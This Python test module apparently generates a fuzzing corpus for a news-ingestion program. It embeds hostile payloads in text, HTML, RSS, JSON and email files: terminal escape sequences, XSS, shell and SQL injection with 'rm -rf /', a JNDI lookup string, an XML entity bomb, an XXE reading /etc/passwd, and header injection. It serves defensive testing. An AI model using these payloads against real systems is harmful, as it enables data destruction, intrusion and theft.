"""Bad input in every form that the program reads: payloads in every field, and files broken in every way.

`python -m tests.hostile.corpus FOLDER` writes each case into a folder of its own.
"""

import gzip
import html
import io
import json
import re
import sys
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

BODY = (
    "The harbour council of Port Alder approved a second tunnel on Monday. The work will cost 1.9 billion crowns and "
    "take nine years, the council said. Two members voted against it.\n\n{payload}\n\nThe first spade goes into the "
    "ground in spring, and ferries will run as before until then."
)


@dataclass(frozen=True)
class Case:
    """One bad source: a name, and the files that make it up."""

    name: str
    files: dict[str, bytes]


PAYLOADS: dict[str, str] = {
    "colour": "\x1b[31mred\x1b[0m alert over the harbour was raised today.",
    "clear screen": "Officials \x1b[2J\x1b[H spoke at noon about the plan.",
    "set title": "\x1b]0;owned\x07 The plan was read out at noon.",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07 The plan was read out at noon.",
    "hyperlink": "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\ said the mayor of the town.",
    "device control": "\x1bP+q544e\x1b\\ The plan was read out at noon.",
    "c1 csi": "\x9b31mred\x9b0m flags were shown at the harbour today.",
    "c1 osc": "\x9d0;owned\x9c The plan was read out at noon.",
    "bell and backspace": "ring\x07ring\x08\x08\x08\x08 went the bells of the town.",
    "carriage return": "The vote was lost.\rThe vote was won, said the mayor.",
    "vertical tab and form feed": "The vote\x0bwas\x0cwon, said the mayor.",
    "nul": "The vote\x00was won, said the mayor.",
    "delete": "The vote\x7f\x7f\x7fwas won, said the mayor.",
    "bidi override": "The mayor \u202egnp.exe\u202c spoke at noon.",
    "bidi isolate": "The mayor \u2066\u2067secret\u2069\u2069 spoke at noon.",
    "marks of direction": "The mayor \u200e\u200f\u061c spoke at noon.",
    "tag characters": "The mayor\U000e0041\U000e0042\U000e007f spoke at noon.",
    "zero width": "The m\u200ba\u200by\u2060o\ufeffr spoke at noon.",
    "soft hyphen": "The may\u00ador spoke at no\u00adon.",
    "line separators": "The mayor\u2028spoke\u2029at\u0085noon.",
    "annotations": "The mayor\ufff9of\ufffatown\ufffb spoke at noon.",
    "noncharacters": "The mayor\ufffe\uffff\ufdd0\U0001ffff spoke at noon.",
    "combining marks": "The m" + "\u0301\u0316\u0334" * 300 + "ayor spoke at noon.",
    "private use": "The mayor \ue000\uf8ff\U000f0000 spoke at noon.",
    "header": "Budget\r\nBcc: victim@example.com\r\n\r\nbody of the letter",
    "encoded header": "=?utf-8?q?Budget=0D=0ABcc:victim@example.com?=",
    "encoded word": "=?utf-7?Q?+AAo-Bcc: victim@example.com?= is the news of the day",
    "lone dot": ".\n.\nDATA\n.\nQUIT",
    "from line": "From mallory@example.com Sat Nov 21 07:00:00 2026",
    "script": "<script>alert(document.cookie)</script> was the answer given.",
    "handler": '"><img src=x onerror=alert(1)> was the answer given.',
    "svg": "<svg/onload=alert(1)><style>*{display:none}</style> was the answer.",
    "unclosed": "<!-- <![CDATA[ <div <p the mayor said at noon",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#27;[31m &#x202e; said the mayor.",
    "markdown": "[click](javascript:alert(1)) ![x](http://tracker.example/p.png) `rm` **b** # h",
    "markup": "[bold red]alert[/bold red] [/] [link=file:///etc/passwd]x[/link] [/b] said the mayor.",
    "template": "{{ 7*7 }} {% raw %} ${jndi:ldap://x.example/a} %s %n {0} said the mayor.",
    "shell": "$(touch /tmp/owned) `id` ; rm -rf / | sh said the mayor.",
    "query": "Robert'); DROP TABLE article;-- said the mayor.",
    "search words": '" OR NEAR( * ^ - AND NOT said the mayor.',
    "long word": "A" * 20_000 + " said the mayor.",
    "long line of digits": "1" * 20_000 + " crowns were spent, said the mayor.",
    "many commas": "1," * 10_000 + " said the mayor.",
    "many quotes": '"' * 10_000 + " said the mayor.",
    "many openings": "“" * 5_000 + " said the mayor.",
    "many brackets": "(" * 10_000 + "[" * 10_000 + " said the mayor.",
    "many capitals": "Alpha Beta Gamma " * 3_000,
    "many dots": "." * 20_000 + " said the mayor.",
    "many initials": "A. " * 8_000 + "said the mayor.",
    "many newlines": "\n" * 20_000 + "said the mayor.",
    "impossible numbers": "It cost $1e999999 and 99999999999999999999999 per cent on 99/99/9999, said the mayor.",
    "impossible date": "On 31 February 2026 and 0000-00-00 at 25:61 the mayor spoke to 10 people.",
    "look-alike": "See http://xn--pple-43d.example/ and http://аpple.example/ said the mayor.",
    "right to left": "قال العمدة إن المجلس وافق على النفق الثاني في الميناء يوم الاثنين.",
    "family emoji": "The 👨‍👩‍👧‍👦 family 🏳️‍🌈 of the mayor 🇺🇳 came at noon.",
    "wide": "市議会は月曜日に港の下に二本目のトンネルを承認した。費用は十九億クラウンである。",
    "joiners": "می‌خواهم क्‍ष said the mayor of the town at noon.",
    "empty": "",
}


def text_headline(payload: str) -> dict[str, bytes]:
    return {"a.txt": (payload + "\n\n" + BODY.format(payload="")).encode("utf-8", "surrogatepass")}


def text_body(payload: str) -> dict[str, bytes]:
    return {"a.txt": ("Council approves a tunnel\n\n" + BODY.format(payload=payload)).encode("utf-8", "surrogatepass")}


def record(payload: str) -> dict[str, bytes]:
    fields = {"id": payload, "url": f"https://a.example/{payload}", "headline": payload, "outlet": payload}
    fields |= {"text": BODY.format(payload=payload), "byline": payload, "language": payload, "published": payload}
    return {"a.jsonl": (json.dumps(fields) + "\n").encode()}


def page(payload: str) -> dict[str, bytes]:
    plain, quoted = payload, html.escape(payload)
    paragraphs = "".join(f"<p>{part}</p>" for part in BODY.format(payload=plain).split("\n\n"))
    said = (
        f"<!doctype html><html><head><meta charset=utf-8><title>{quoted}</title>"
        f'<meta property="og:title" content="{quoted}"><meta property="og:site_name" content="{quoted}">'
        f'<meta name="author" content="{quoted}"><link rel="canonical" href="{quoted}"></head>'
        f"<body><article><h1>{plain}</h1>{paragraphs}</article></body></html>"
    )
    return {"a.html": said.encode("utf-8", "surrogatepass")}


def rss(payload: str) -> dict[str, bytes]:
    quoted = html.escape("".join(char for char in payload if char >= " " or char in "\n\t\r"))
    said = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        f"<title>{quoted}</title><link>{quoted}</link><item><title>{quoted}</title><link>{quoted}</link>"
        f"<guid>{quoted}</guid><dc:creator>{quoted}</dc:creator><pubDate>{quoted}</pubDate>"
        f"<description>{html.escape(BODY.format(payload=payload))}</description></item></channel></rss>"
    )
    return {"a.xml": said.encode("utf-8", "surrogatepass")}


def json_feed(payload: str) -> dict[str, bytes]:
    entry = {"id": payload, "url": payload, "title": payload, "authors": [{"name": payload}]}
    entry |= {"content_text": BODY.format(payload=payload), "date_published": payload}
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": payload, "items": [entry]}
    return {"a.json": json.dumps(feed).encode()}


def letter(payload: str) -> dict[str, bytes]:
    headers = "".join(
        f"{name}: {payload.replace(chr(10), ' ').replace(chr(13), ' ')[:900]}\r\n"
        for name in ("From", "To", "Subject", "Message-ID", "List-Id", "Content-Type")
    )
    text = f"{headers}MIME-Version: 1.0\r\n\r\n{BODY.format(payload=payload)}"
    return {"a.eml": text.encode("utf-8", "surrogatepass")}


CARRIERS: dict[str, Callable[[str], dict[str, bytes]]] = {
    "headline": text_headline,
    "body": text_body,
    "record": record,
    "page": page,
    "rss": rss,
    "json feed": json_feed,
    "letter": letter,
}


def archive() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as files:
        files.writestr("a.txt", "x" * 1000)
    return held.getvalue()


def broken() -> Iterator[tuple[str, dict[str, bytes]]]:
    """Files that are not what they say, not whole, or far too much."""
    text = BODY.format(payload="").encode()
    yield "empty", {"a.txt": b""}
    yield "white space", {"a.txt": b" \n\t \r\n" * 100}
    yield "bytes", {"a.txt": bytes(range(256)) * 40}
    yield "zeros", {"a.txt": bytes(100_000)}
    yield (
        "invalid utf-8",
        {"a.txt": b"Council approves a tunnel\n\n" + text.replace(b"council", b"c\xff\xfe\xe9ouncil")},
    )
    yield "half a utf-16", {"a.txt": ("Council approves\n\n" + BODY).encode("utf-16")[:-1]}
    yield "surrogates", {"a.txt": b"Council \xed\xa0\x80\xed\xb0\x80 approves\n\n" + text}
    yield "many boms", {"a.txt": b"\xef\xbb\xbf" * 50 + b"Council approves\n\n" + text}
    yield "an archive", {"a.txt": archive(), "b.jsonl": archive(), "c.html": archive(), "d.xml": archive()}
    yield "compressed", {"a.txt": gzip.compress(text), "b.xml": gzip.compress(text)}
    yield "a picture", {"a.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20}
    yield "a program", {"a.txt": b"\x7fELF\x02\x01\x01" + bytes(4000)}
    yield "a pdf", {"a.txt": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 20}
    yield "one long line", {"a.txt": b"word " * 200_000}
    yield "a hundred thousand lines", {"a.txt": b"x\n" * 100_000}
    yield "a script as text", {"a.txt": b"#!/bin/sh\nrm -rf /\n" * 10}
    for name, records in {
        "not json": b"{oops\n",
        "a list": b"[1,2,3]\n",
        "numbers": b"1\n2\n3\n",
        "null fields": b'{"headline": null, "text": null}\n',
        "wrong types": b'{"headline": 3, "text": ["x"], "published": {}, "byline": 9, "url": false}\n',
        "nothing in it": b'{"headline": "", "text": ""}\n',
        "deep": b'{"headline":' + b"[" * 50_000 + b"\n",
        "huge number": b'{"headline": "x", "text": "y z", "published": ' + b"9" * 5000 + b"}\n",
        "surrogate": b'{"headline": "\\ud800 council", "text": "It \\udfff met at noon."}\n',
        "same key": b'{"headline": "a", "headline": "b", "text": "It met at noon."}\n',
        "cut": b'{"headline": "a", "text": "It met',
        "nan": b'{"headline": "x", "text": "It met.", "published": NaN}\n',
    }.items():
        yield f"records: {name}", {"a.jsonl": records}
    head = b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
    bomb = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(9)
    )
    for name, feed in {
        "cut": head + b"<item><title>Council</title><descr",
        "no entry": head + b"</channel></rss>",
        "entity bomb": bomb + b"]><rss><channel><item><title>&j;</title></item></channel></rss>",
        "outside entity": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title>'
        b"</item></channel></rss>",
        "deep": head + b"<a>" * 20_000,
        "attributes": head + b"<item " + b"".join(b'a%d="x" ' % place for place in range(20_000)) + b"/>",
        "wrong encoding": b'<?xml version="1.0" encoding="utf-16"?>' + head[21:] + b"<item><title>x</title></item>",
        "unknown encoding": b'<?xml version="1.0" encoding="klingon"?>' + head[21:] + b"</channel></rss>",
        "many entries": head + b"<item><title>Council met</title><link>http://a.example/</link></item>" * 3000,
        "not a feed": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        "bytes": b"<rss>" + bytes(range(256)) * 20,
    }.items():
        yield f"feed: {name}", {"a.xml": feed}
    for name, said in {
        "deep": b"<html><body>" + b"<div>" * 3_000 + b"<p>" + text,
        "unclosed": b"<html><body><article><p>" + text + b"<table><tr><td><b><i><a href=x",
        "attributes": b"<html><p " + b"".join(b"a%d=1 " % place for place in range(20_000)) + b">" + text,
        "only script": b"<html><script>" + b"x=1;" * 5000 + b"</script></html>",
        "base": b'<html><base href="javascript:alert(1)"><a href="x">y</a><p>' + text,
        "refresh": b'<html><meta http-equiv=refresh content="0;url=http://evil.example"><p>' + text,
        "ld": b'<html><script type="application/ld+json">{"@type": "NewsArticle", "headline": [[[' + b"<p>" + text,
        "entities": b"<html><p>" + b"&#0;&#27;&#x202e;&#xd800;&#1114112;&#99999999999;&bogus;" * 200 + text,
        "comment": b"<html><!-- " + b"-" * 50_000 + text,
        "charset": b'<html><meta charset="utf-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- ' + text,
        "frameset": b"<html><frameset><frame src=http://evil.example></frameset></html>",
    }.items():
        yield f"page: {name}", {"a.html": said}
    parts = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(150))
    start = b"From: a@example.com\r\nSubject: News\r\nMIME-Version: 1.0\r\n"
    for name, mail in {
        "deep": start + parts + b"Content-Type: text/plain\r\n\r\n" + text,
        "no boundary": start + b"Content-Type: multipart/mixed\r\n\r\n" + text,
        "bad base64": start + b"Content-Transfer-Encoding: base64\r\n\r\n!!!!" + text,
        "bad quoted": start + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=1B[31m" + text,
        "bad charset": start + b"Content-Type: text/plain; charset=klingon\r\n\r\n" + text,
        "many headers": b"X-A: b\r\n" * 20_000 + start + b"\r\n" + text,
        "header only": start,
        "attachment": start + b'Content-Type: application/zip; name="../../x"\r\n\r\n' + archive(),
        "encoded subject": b"Subject: =?utf-8?b?G1szMW0=?= =?utf-8?q?=E2=80=AE?=\r\n\r\n" + text,
        "html part": start + b"Content-Type: text/html\r\n\r\n<script>alert(1)</script><p onclick=x()>" + text,
    }.items():
        yield f"letter: {name}", {"a.eml": mail}
    yield "mailbox: cut", {"a.mbox": b"From a Sat Nov 21 07:00:00 2026\n" + start + b"\n" + text + b"\nFrom b"}
    yield "list: deep", {"a.opml": b"<opml><body>" + b'<outline text="x">' * 5000}
    yield "list: not", {"a.opml": b"<opml><body><outline xmlUrl='javascript:alert(1)'/></body></opml>"}
    yield "name: escape", {"a\x1b[31m.txt": b"Council met\n\n" + text}
    yield "name: newline", {"a\nb.txt": b"Council met\n\n" + text}
    yield "name: markup", {"[b]<i>&.txt": b"Council met\n\n" + text}
    yield "name: bidi", {"a\u202etxt.exe.txt": b"Council met\n\n" + text}
    yield "name: option", {"--output.txt": b"Council met\n\n" + text}


def cases() -> Iterator[Case]:
    """All of them, always in the same order."""
    for label, files in broken():
        yield Case(label, files)
    for payload, said in PAYLOADS.items():
        for carrier, make in CARRIERS.items():
            yield Case(f"{payload} in {carrier}", make(said))


def laid_out(chosen: Iterable[Case], folder: Path) -> Path:
    """Writes each case into a folder of its own below `folder`, which is answered."""
    for place, case in enumerate(chosen):
        below = folder / f"{place:03} {re.sub('[^A-Za-z0-9 ]', '-', case.name)}"
        below.mkdir(parents=True)
        for name, body in case.files.items():
            (below / name).write_bytes(body)
    return folder


def main() -> None:
    """Writes the corpus."""
    laid_out(cases(), Path(sys.argv[1]))


if __name__ == "__main__":
    main()
